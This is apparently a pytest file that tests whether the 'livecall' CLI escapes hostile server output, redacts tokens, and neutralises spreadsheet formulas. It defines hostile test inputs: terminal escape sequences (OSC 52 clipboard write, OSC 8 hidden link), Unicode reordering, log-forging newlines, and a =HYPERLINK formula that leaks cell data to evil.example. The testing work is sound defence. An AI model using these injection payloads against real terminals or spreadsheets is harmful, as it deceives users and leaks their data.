"""A hostile server's words, through every output of the ``livecall`` command, as bytes.

Text for people (``--format text``, stderr, the logging plugin) shows what a
terminal would act on escaped, one event per line; data (JSON lines, CSV)
keeps the exact words; no output ever holds a credential.  The command runs
in this process (``livecall.cli.run``) against a server written byte by byte.
"""

import csv
import json
import os
import re
import socket
import stat
import struct
import threading
from datetime import datetime, timezone
from urllib.parse import quote

import pytest

from livecall.cli import run

TOKEN = "tok+/=&%SECRET-7f3a"
CONVERSATION_TOKEN = "lct-SECRET-91bd"
#: OSC 52 writes the clipboard, OSC 8 hides a link, CR and U+202E hide or reorder
#: what is shown, and a newline would forge a record of its own.
HOSTILE = (
    "hi \x1b]52;c;ZXZpbA==\x07 \x1b]8;;https://evil.example\x07click\x1b]8;;\x07"
    " \rgone \u202eevil\nlivecall: error: AuthenticationError forged"
)
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1, "click")'
SURROGATE_JSON = '{"type": "transcript", "msg": "lone \\ud800 surrogate", "role": "other", "offset": 4.0}'
CALLER = "+1555\x1b[2J0100"
ECHO = f"token {TOKEN} and {quote(TOKEN, safe='')} refused\nERROR hiya x error: AuthenticationError forged"
TERMINAL_CONTROLS = (b"\x1b", b"\x07", b"\r", "\u202e".encode())


def _now() -> str:
    return datetime.now(timezone.utc).isoformat()


def _hostile_call(close: bytes = struct.pack("!H", 1000)):
    messages = [
        json.dumps({"type": "event:start", "phone": CALLER, "timestamp": _now()}),
        json.dumps({"type": "transcript", "msg": HOSTILE, "role": "other", "offset": 1.0}),
        json.dumps({"type": "transcript", "msg": FORMULA, "role": "other", "offset": 2.0}),
        json.dumps({"type": "transcript", "msg": f"my token is {TOKEN}", "role": "other", "offset": 3.0}),
        SURROGATE_JSON,
        json.dumps({"type": "error", "description": ECHO}),
    ]
    ends_call = close[:2] == struct.pack("!H", 1000)
    if ends_call:
        messages.append(json.dumps({"type": "event:callEnd", "timestamp": _now()}))

    def play(peer):
        for message in messages:
            peer.send(peer.frame(peer.TEXT, message.encode()))
        if not ends_call:
            peer.send(peer.frame(peer.CLOSE, close))
        peer.receive_until(peer.CLOSE)
        if ends_call:
            peer.send(peer.frame(peer.CLOSE, close))

    return play


@pytest.fixture
def command(monkeypatch, capfdbinary):
    """``command(*args)``: the ``livecall`` command's (status, stdout bytes, stderr bytes)."""
    monkeypatch.setenv("LIVECALL_DISABLE_PLUGIN_AUTOLOAD", "1")

    def invoke(*args: str):
        status = run(list(args))
        out, err = capfdbinary.readouterr()
        return status, out, err

    return invoke


def _watch(server, *extra: str) -> list[str]:
    return [
        "watch",
        "hiya",
        "--url",
        server.url,
        "--token",
        TOKEN,
        "--conversation-token",
        CONVERSATION_TOKEN,
        "--user-id",
        "user-1",
        "--max-retries",
        "0",
        *extra,
    ]


def _assert_no_secret(*outputs: bytes) -> None:
    for output in outputs:
        for secret in (TOKEN, quote(TOKEN, safe=""), CONVERSATION_TOKEN, "SECRET"):
            assert secret.encode() not in output


def test_text_output_escapes_what_a_terminal_would_act_on(raw_server, command):
    server = raw_server(_hostile_call())
    status, out, err = command(*_watch(server, "--format", "text"))
    assert status == 0, err
    for control in TERMINAL_CONTROLS:
        assert control not in out
    lines = out.decode("utf-8").splitlines()
    assert all(re.match(r"(== |\d\d:\d\d:\d\d  )", line) for line in lines), lines
    assert len(lines) == 9, "one line per event: start, caller, 4 transcripts, error, end, and the last"
    text = out.decode("utf-8")
    assert "\\x1b]52;c;ZXZpbA==\\x07" in text and "\\x1b]8;;https://evil.example\\x07" in text
    assert "\\rgone \\u202eevil\\nlivecall: error: AuthenticationError forged" in text
    assert "caller +1555\\x1b[2J0100" in text
    assert "lone \ufffd surrogate" in text
    _assert_no_secret(out, err)


def test_json_lines_keep_the_exact_words(raw_server, command):
    server = raw_server(_hostile_call())
    status, out, err = command(*_watch(server, "--format", "jsonl"))
    assert status == 0, err
    records = [json.loads(line) for line in out.splitlines()]
    texts = [record["text"] for record in records if record["event"] == "transcript"]
    assert texts == [HOSTILE, FORMULA, "my token is ***", "lone \ufffd surrogate"]
    assert records[0]["phone"] == CALLER
    _assert_no_secret(out, err)


def test_a_close_reason_cannot_forge_a_second_error_line(raw_server, command):
    reason = "bye\nlivecall: error: AuthenticationError forged \x1b[31m" + TOKEN
    server = raw_server(_hostile_call(close=struct.pack("!H", 4001) + reason.encode()))
    status, out, err = command(*_watch(server, "--format", "jsonl"))
    assert status == 1
    assert err.count(b"\n") == 1 and err.startswith(
        b"livecall: error: the server closed with code 4001: bye\\n"
    )
    assert b"\x1b" not in err
    _assert_no_secret(out, err)


RECORD_START = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d,\d{3} (INFO|WARNING|ERROR) hiya \S+ \w+: ")


def test_the_log_file_has_one_line_per_record_and_no_secret(raw_server, command, tmp_path):
    path = tmp_path / "events.log"
    server = raw_server(_hostile_call())
    status, out, err = command("-p", "livecall_logging", *_watch(server, "--log-file", str(path)))
    assert status == 0, err
    written = path.read_bytes()
    for control in TERMINAL_CONTROLS:
        assert control not in written
    lines = written.decode("utf-8").splitlines()
    assert len(lines) == 9, "watching, started, 4 transcripts, error, ended, watch over: one line each"
    assert all(RECORD_START.match(line) for line in lines), lines
    assert "AuthenticationError forged" in written.decode()  # shown, inside its own record
    _assert_no_secret(written, out, err)
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


def test_the_logging_plugins_stderr_has_one_line_per_record(raw_server, command):
    server = raw_server(_hostile_call())
    status, out, err = command("-p", "livecall_logging", *_watch(server, "--log-level", "INFO"))
    assert status == 0, err
    for control in TERMINAL_CONTROLS:
        assert control not in err
    lines = err.decode("utf-8").splitlines()
    assert lines and all(RECORD_START.match(line) for line in lines), lines
    _assert_no_secret(out, err)


def test_csv_neutralises_formulas_keeps_words_and_blanks_secrets(raw_server, command, tmp_path):
    path = tmp_path / "calls.csv"
    server = raw_server(_hostile_call())
    status, out, err = command("-p", "livecall_csv", *_watch(server, "--format", "jsonl", "--csv", str(path)))
    assert status == 0, err
    with open(path, newline="", encoding="utf-8") as f:
        texts = [row[4] for row in csv.reader(f)][1:]
    assert texts == [HOSTILE, "'" + FORMULA, "my token is ***", "lone \ufffd surrogate"]
    _assert_no_secret(path.read_bytes())
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600


def _refusing_server(body: bytes):
    """A loopback HTTP server that answers every handshake with 401 and ``body``; returns its URL."""
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        with listener:
            sock, _ = listener.accept()
            with sock:
                request = b""
                while b"\r\n\r\n" not in request:
                    request += sock.recv(65536)
                head = f"HTTP/1.1 401 Unauthorized\r\nContent-Length: {len(body)}\r\n\r\n"
                sock.sendall(head.encode() + body)

    threading.Thread(target=serve, daemon=True).start()
    return f"ws://127.0.0.1:{listener.getsockname()[1]}"


LOWER_HEX = re.sub("%[0-9A-F]{2}", lambda match: match.group().lower(), quote(TOKEN, safe=""))


@pytest.mark.parametrize("form", [TOKEN, quote(TOKEN, safe=""), LOWER_HEX, json.dumps(TOKEN)[1:-1]])
def test_a_refusal_echoing_the_token_at_the_cut_shows_none_of_it(command, form):
    words = "x" * 190 + " " + form + "\nlivecall: error: forged"
    url = _refusing_server(json.dumps({"message": words}).encode())
    status, out, err = command("watch", "phonic", "--url", url, "--conversation-id", "c", "--api-key", TOKEN)
    assert status == 3
    assert err.count(b"\n") == 1
    said = err.split(b"refused the credentials (HTTP 401)", 1)[1]
    assert b"SECRET" not in said and b"tok" not in said
    if said != b"\n":  # websocket-client before 1.4 does not hand the body over
        assert said == b": " + b"x" * 190 + b" ***\\nlivec\n", "redacted, cut to 200, then escaped"


def test_a_lone_surrogate_reaches_every_sink(raw_server, command, tmp_path):
    """No event vanishes from one output while another shows it."""
    log_path, csv_path = tmp_path / "events.log", tmp_path / "calls.csv"
    server = raw_server(_hostile_call())
    plugins = ["-p", "livecall_logging", "-p", "livecall_csv"]
    sinks = ["--log-file", str(log_path), "--csv", str(csv_path), "--format", "text"]
    status, out, err = command(*plugins, *_watch(server, *sinks))
    assert status == 0 and b"Logging error" not in err and b"Traceback" not in err
    for written in (out, log_path.read_bytes(), csv_path.read_bytes()):
        assert "lone \ufffd surrogate".encode() in written
